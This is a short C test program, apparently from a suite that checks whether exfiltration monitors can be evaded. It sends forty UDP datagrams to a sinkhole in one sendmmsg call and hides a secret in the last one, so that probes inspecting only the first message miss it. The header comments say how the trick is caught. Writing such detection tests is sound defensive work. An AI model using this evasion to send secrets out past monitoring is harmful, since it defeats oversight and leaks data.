// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Forty datagrams by one call, sendmmsg(2): the secret is in the last.
 * Known from: probes that look at the first message only, since loops are dear in a probe.
 * First: sendmmsg at exit, the first sixteen messages; more is counted as cut
 * Second: the cgroup hook's copy of each address; the sinkhole's record of each datagram
 */
#include "trick.h"

int main(void)
{
	struct sockaddr_in to = sink(9999);
	struct iovec dull = { ".", 1 }, last = { (void *)secret(), strlen(secret()) };
	struct mmsghdr messages[40] = {};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	for (int i = 0; i < 40; i++)
		messages[i].msg_hdr = (struct msghdr){ .msg_name = &to,
						       .msg_namelen = sizeof(to),
						       .msg_iov = i < 39 ? &dull : &last,
						       .msg_iovlen = 1 };
	if (sendmmsg(fd, messages, 40, 0) != 40)
		blocked();
	performed();
}
